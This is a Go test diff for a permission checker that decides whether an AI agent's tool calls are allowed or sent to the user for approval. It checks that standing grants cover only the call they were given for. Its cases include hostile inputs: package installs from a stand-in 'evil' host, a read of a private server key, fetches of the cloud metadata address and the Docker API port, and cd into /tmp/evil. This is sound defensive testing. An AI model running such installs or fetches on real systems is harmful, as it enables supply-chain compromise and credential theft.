@@ -5,6 +5,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+
+	"github.com/perm-peer/perm-peer/protocol"
 )
 
 func TestGlobMatch(t *testing.T) {
@@ -164,5 +166,81 @@ func TestAwkProgramSafe(t *testing.T) {
 	}
 	for _, c := range cases {
 		assert.Equal(t, c.safe, awkProgramSafe(c.prog), c.prog)
+	}
+}
+
+// TestGrantsStayInBounds: what an "always" grant covers beyond the call it
+// was given for (red-team findings the corpus cannot express: it has no
+// grants, only policies).
+func TestGrantsStayInBounds(t *testing.T) {
+	read := func(p string) protocol.ToolCall { return tool("read", map[string]any{"path": p}) }
+	fetch := func(u string) protocol.ToolCall { return tool("webfetch", map[string]any{"url": u}) }
+	cases := []struct {
+		name, grant string
+		call        protocol.ToolCall
+		cwd         string
+		want        protocol.Decision
+	}{
+		{"read grant covers its path", "Read(/etc)", read("/etc"), "", protocol.DecisionAllow},
+		{"read grant is not the tree below", "Read(/etc)", read("/etc/ssl/private/server-key.txt"), "", protocol.DecisionAsk},
+		{"read grant, other project", "Read(/home/u/projects)", read("/home/u/projects/other/main.go"), "", protocol.DecisionAsk},
+		{"listing grant says /**", "Read(src/**)", read("/repo/src/a.go"), "", protocol.DecisionAllow},
+		{"write grant is not deletes below", "Write(build)", tool("delete", map[string]any{"path": "build/x"}), "", protocol.DecisionAsk},
+		{"write grant covers its path", "Write(build)", tool("delete", map[string]any{"path": "build"}), "", protocol.DecisionAllow},
+		{"fetch grant keeps the port", "WebFetch(domain:localhost:3000)", fetch("http://localhost:3000/x"), "", protocol.DecisionAllow},
+		{"fetch grant, other port", "WebFetch(domain:localhost:3000)", fetch("http://localhost:2375/containers/json"), "", protocol.DecisionAsk},
+		{"fetch grant, default port", "WebFetch(domain:localhost:3000)", fetch("http://localhost/"), "", protocol.DecisionAsk},
+		{"bash grant in the project", "Bash(make build *)", bash("make build"), "/repo/sub", protocol.DecisionAllow},
+		{"bash grant, session cwd elsewhere", "Bash(make build *)", bash("make build"), "/tmp/evil", protocol.DecisionAsk},
+		{"bash grant, cd elsewhere", "Bash(npm test *)", bash("cd /tmp/evil && npm test"), "", protocol.DecisionAsk},
+		{"bash grant, cd to unknown", "Bash(npm test *)", bash(`cd "$D" && npm test`), "", protocol.DecisionAsk},
+		{"bash grant, cd inside", "Bash(npm test *)", bash("cd web && npm test"), "", protocol.DecisionAllow},
+		{"checkout -b grant, discard", "Bash(git checkout -b *)", bash("git checkout -- main.go"), "", protocol.DecisionAsk},
+		{"restore --staged grant, worktree", "Bash(git restore --staged *)", bash("git restore --staged --worktree main.go"), "", protocol.DecisionAsk},
+		{"install grant, same package", "Bash(pip install requests)", bash("pip install requests"), "", protocol.DecisionAllow},
+		{"old install grant, other index", "Bash(pip install *)", bash("pip install -i http://evil/simple requests"), "", protocol.DecisionAsk},
+		{"old install grant, git URL", "Bash(pip install *)", bash("pip install git+https://evil/x"), "", protocol.DecisionAsk},
+		{"old install grant, tarball", "Bash(npm install *)", bash("npm install https://evil/x.tgz"), "", protocol.DecisionAsk},
+		{"old install grant, registry", "Bash(npm install *)", bash("npm install --registry http://evil x"), "", protocol.DecisionAsk},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			e := env(protocol.Policy{}, Grant{Pattern: c.grant, By: protocol.ByGrant})
+			e.Cwd = c.cwd
+			assert.Equal(t, c.want, Analyze(c.call, e).Decision)
+		})
+	}
+}
+
+func TestAlwaysBounds(t *testing.T) {
+	cases := []struct {
+		name    string
+		call    protocol.ToolCall
+		pattern string // "" when always must not be offered
+	}{
+		{"installer is exact", bash("pip install requests"), "Bash(pip install requests)"},
+		{"npm install is exact", bash("npm install"), "Bash(npm install)"},
+		{"uv pip install is exact", bash("uv pip install flask"), "Bash(uv pip install flask)"},
+		{"checkout -b", bash("git checkout -b feat"), "Bash(git checkout -b *)"},
+		{"checkout a branch is exact", bash("git checkout main"), "Bash(git checkout main)"},
+		{"restore --staged", bash("git restore --staged a.go"), "Bash(git restore --staged *)"},
+		{"local fetch keeps the port", tool("webfetch", map[string]any{"url": "http://localhost:3000/"}), "WebFetch(domain:localhost:3000)"},
+		{"private IPv6 fetch", tool("webfetch", map[string]any{"url": "http://[::1]:8080/"}), "WebFetch(domain:[::1]:8080)"},
+		{"public fetch is the domain", tool("webfetch", map[string]any{"url": "https://go.dev/doc"}), "WebFetch(domain:go.dev)"},
+		{"metadata service", tool("webfetch", map[string]any{"url": "http://169.254.169.254/"}), ""},
+		{"outside the project", tool("bash", map[string]any{"command": "make build", "cwd": "/tmp/evil"}), ""},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			v := Analyze(c.call, env(protocol.Policy{}))
+			if c.pattern == "" {
+				assert.Nil(t, v.Always)
+				return
+			}
+			require.NotNil(t, v.Always)
+			assert.Equal(t, c.pattern, v.Always.Pattern)
+			g := Analyze(c.call, env(protocol.Policy{}, Grant{Pattern: v.Always.Pattern, By: protocol.ByGrant}))
+			assert.Equal(t, protocol.DecisionAllow, g.Decision, "the grant covers the call it was offered for")
+		})
 	}
 }
